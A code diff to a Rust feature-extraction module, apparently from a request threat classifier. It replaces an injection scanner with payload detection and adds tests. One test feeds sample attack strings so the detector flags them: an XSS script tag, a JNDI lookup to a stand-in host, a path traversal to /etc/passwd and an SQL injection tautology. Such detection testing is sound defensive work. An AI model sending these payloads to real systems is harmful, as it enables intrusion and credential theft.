@@ -5,9 +5,9 @@
 //! schema: the model's input width, its schema hash, `docs/FEATURES.md`, the training loader and
 //! the explanation labels all derive from it.
 
+mod client;
 mod docs;
 mod email;
-mod injection;
 mod lists;
 pub mod payload;
 mod rules;
@@ -15,9 +15,9 @@ mod schema;
 mod ua;
 
 pub use docs::features_markdown;
-pub use schema::{Feature, Group, Transform, FEATURES, N_FEATURES};
+pub use schema::{index_of, Feature, Group, Role, Transform, EVIDENCE_BUDGET, FEATURES, N_FEATURES, SIGNAL_BUDGET};
 
-use crate::decision::RawInput;
+use crate::decision::{Header, RawInput};
 use crate::memory::Snapshot;
 use std::sync::OnceLock;
 
@@ -27,8 +27,8 @@ pub struct Signals {
     pub rules: rules::RuleSummary,
     pub ua: ua::UaInfo,
     pub email: email::EmailInfo,
-    pub injection: injection::InjectionCounts,
-    pub ip_private_or_missing: bool,
+    pub client: client::Presentation,
+    pub payload: payload::PayloadFindings,
     /// What behavioral memory knew about the request's keys before it.
     pub memory: Snapshot,
 }
@@ -36,19 +36,19 @@ pub struct Signals {
 /// Reusable buffers so extraction does not allocate per call.
 #[derive(Debug, Default)]
 pub struct Scratch {
-    decoded: Vec<u8>,
+    payload: payload::Scratch,
     ua: ua::UaCache,
 }
 
 /// Analyzes `input`, with what memory knew about it, into [`Signals`].
 pub fn analyze(input: &RawInput<'_>, memory: &Snapshot, scratch: &mut Scratch) -> Signals {
-    let t = &input.texts;
+    let ua = ua::analyze_cached(input.headers.get(Header::UserAgent), &mut scratch.ua);
     Signals {
         rules: rules::summarize(input),
-        ua: ua::analyze_cached(t.user_agent, t.sec_ch_ua, &mut scratch.ua),
-        email: email::analyze(t.email),
-        injection: injection::scan(t.path, t.body, &mut scratch.decoded),
-        ip_private_or_missing: ip_private_or_missing(t.ip),
+        client: client::analyze(&input.headers, &ua),
+        ua,
+        email: email::analyze(input.texts.email),
+        payload: payload::scan_texts(&input.texts, &mut scratch.payload),
         memory: *memory,
     }
 }
@@ -69,22 +69,7 @@ impl Default for FeatureVector {
 /// Fills `out` with the features of `input` and what memory knew about it.
 pub fn extract_into(input: &RawInput<'_>, memory: &Snapshot, scratch: &mut Scratch, out: &mut FeatureVector) {
     let signals = analyze(input, memory, scratch);
-    // Unrolled with constant indices, so each feature's extractor and transform are known at
-    // compile time and inlined (a loop calls 101 function pointers).
-    seq_macro::seq!(I in 0..101 {
-        extract_one::<I>(input, &signals, out);
-    });
-}
-
-const _: () = assert!(N_FEATURES == 101, "extract_into unrolls over exactly N_FEATURES");
-
-#[inline(always)]
-fn extract_one<const I: usize>(input: &RawInput<'_>, signals: &Signals, out: &mut FeatureVector) {
-    let f = const { &FEATURES[I] };
-    let raw = (f.extract)(input, signals);
-    let raw = if raw.is_nan() { f.missing } else { raw };
-    out.raw[I] = raw;
-    out.values[I] = f.transform.apply(raw);
+    schema::extract_all(input, &signals, out);
 }
 
 /// Convenience wrapper of [`extract_into`] without memory that allocates; for tests and tools.
@@ -99,39 +84,34 @@ pub fn extract(input: &RawInput<'_>) -> FeatureVector {
 pub fn tables_json() -> serde_json::Value {
     serde_json::json!({
         "httpLibraries": ua::HTTP_LIBRARIES,
+        "exactLibraries": ua::EXACT_LIBRARIES,
         "automation": ua::AUTOMATION,
         "botWords": ua::BOT_WORDS,
         "browsers": ua::BROWSERS,
         "engines": ua::ENGINES,
         "chromium": ua::CHROMIUM,
-        "injectionTokens": injection::TOKENS,
-        "bodySymbols": std::str::from_utf8(injection::BODY_SYMBOLS).expect("ASCII"),
     })
 }
 
-/// A hash of the schema (names, order, transforms and missing defaults): a model trained for
-/// another schema has another hash and is refused at load.
+/// A hash of the schema (names, order, transforms, missing defaults, heads and roles): a model
+/// trained for another schema has another hash and is refused at load.
 pub fn schema_hash() -> u64 {
     static HASH: OnceLock<u64> = OnceLock::new();
     *HASH.get_or_init(|| {
         let mut h = xxhash_rust::xxh3::Xxh3::new();
         for f in FEATURES {
             h.update(f.name.as_bytes());
-            h.update(&[0, f.transform as u8]);
+            h.update(&[0, f.transform as u8, f.heads]);
             h.update(&f.missing.to_le_bytes());
+            let active = match f.role {
+                Role::Evidence { active_above } => active_above,
+                Role::Raise | Role::Signal => f64::NAN,
+            };
+            h.update(&[f.role.tag()]);
+            h.update(&active.to_le_bytes());
         }
         h.digest()
     })
-}
-
-fn ip_private_or_missing(ip: &str) -> bool {
-    match ip.trim().parse::<std::net::IpAddr>() {
-        Err(_) => true,
-        Ok(std::net::IpAddr::V4(v4)) => v4.is_private() || v4.is_loopback() || v4.is_link_local() || v4.is_unspecified(),
-        Ok(std::net::IpAddr::V6(v6)) => {
-            v6.is_loopback() || v6.is_unspecified() || (v6.segments()[0] & 0xfe00) == 0xfc00 || (v6.segments()[0] & 0xffc0) == 0xfe80
-        }
-    }
 }
 
 #[cfg(test)]
@@ -160,7 +140,7 @@ mod tests {
     #[test]
     fn curl_and_a_browser_differ_where_expected() {
         let get = |ua: &str| {
-            let o = RawInput::from_json(&json!({"request": {"headers": {"user-agent": ua}}})).unwrap();
+            let o = RawInput::from_json(&json!({"request": {"headers": {"user-agent": ua, "accept": "*/*"}}})).unwrap();
             extract(&o.view())
         };
         let idx = |name: &str| FEATURES.iter().position(|f| f.name == name).unwrap();
@@ -168,16 +148,59 @@ mod tests {
         let chrome = get("Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36");
         assert_eq!(curl.values[idx("ua.http_library")], 1.0);
         assert_eq!(chrome.values[idx("ua.http_library")], 0.0);
-        assert_eq!(chrome.values[idx("ua.browser_like")], 1.0);
-        assert_eq!(curl.values[idx("ua.browser_like")], 0.0);
+        assert_eq!(chrome.values[idx("ua.not_browser")], 0.0);
+        assert_eq!(curl.values[idx("ua.not_browser")], 1.0);
+        assert_eq!(chrome.values[idx("headers.missing_accept_language")], 1.0, "a browser without accept-language");
+        assert_eq!(curl.values[idx("headers.missing_accept_language")], 0.0);
     }
 
     #[test]
-    fn private_ips_are_flagged() {
-        assert!(ip_private_or_missing(""));
-        assert!(ip_private_or_missing("10.1.2.3"));
-        assert!(ip_private_or_missing("::1"));
-        assert!(!ip_private_or_missing("203.0.113.9"));
-        assert!(!ip_private_or_missing("2001:db8::1"));
+    fn only_policy_facts_feed_no_head_and_client_chosen_facts_never_lower_a_threat() {
+        let policy_only: Vec<_> = FEATURES.iter().filter(|f| f.heads == 0).map(|f| f.name).collect();
+        assert_eq!(policy_only, ["payload.values"], "a count the client inflates at will feeds no head");
+        for f in FEATURES.iter().filter(|f| matches!(f.group, Group::Ip | Group::UserAgent | Group::Headers | Group::Payload | Group::Email)) {
+            assert!(f.role.monotone() || f.heads == 0, "{} is chosen by the client and could lower a threat", f.name);
+        }
+    }
+
+    #[test]
+    fn every_payload_family_has_its_evidence_feature() {
+        for &family in payload::Family::ALL {
+            let j = index_of(&format!("payload.{}", family.name()));
+            assert!(matches!(FEATURES[j].role, Role::Evidence { .. }), "{}", FEATURES[j].name);
+        }
+    }
+
+    #[test]
+    fn payloads_in_each_location_reach_their_feature() {
+        let idx = |name: &str| FEATURES.iter().position(|f| f.name == name).unwrap();
+        let o = RawInput::from_json(&json!({"request": {
+            "path": "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
+            "headers": {"user-agent": "${jndi:ldap://x.example/a}", "cookie": "f=..%2F..%2F..%2Fetc%2Fpasswd", "accept": "*/*"},
+            "body": {"comment": "1' or '1'='1"}
+        }})).unwrap();
+        let v = extract(&o.view());
+        for name in ["payload.xss", "payload.jndi", "payload.traversal", "payload.sqli"] {
+            assert_eq!(v.raw[idx(name)], 1.0, "{name}");
+        }
+        let benign = RawInput::from_json(&json!({"request": {
+            "path": "/search?q=O%27Brien+%26+sons",
+            "headers": {"accept": "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", "cookie": "sid=abc",
+                "referer": "http://127.0.0.1:3000/signup?step=2", "origin": "http://localhost:3000"},
+            "body": {"note": "Leave it at the door; thanks!"}
+        }})).unwrap();
+        let v = extract(&benign.view());
+        assert!(FEATURES.iter().enumerate().all(|(j, f)| !(f.group == Group::Payload && f.role.monotone()) || v.raw[j] == 0.0));
+        assert!(v.raw[idx("payload.values")] >= 4.0);
+    }
+
+    #[test]
+    fn implausible_context_is_clamped_and_counted() {
+        let idx = |name: &str| FEATURES.iter().position(|f| f.name == name).unwrap();
+        let o = RawInput::from_json(&json!({"context": {"sessionRequests": 1e9, "pagesSeen": 3}})).unwrap();
+        let v = extract(&o.view());
+        assert_eq!(v.raw[idx("context.implausible")], 1.0);
+        assert_eq!(v.raw[idx("context.session_requests")], 100_000.0, "clamped to the plausible maximum");
+        assert_eq!(v.raw[idx("context.pages_seen")], 3.0);
     }
 }
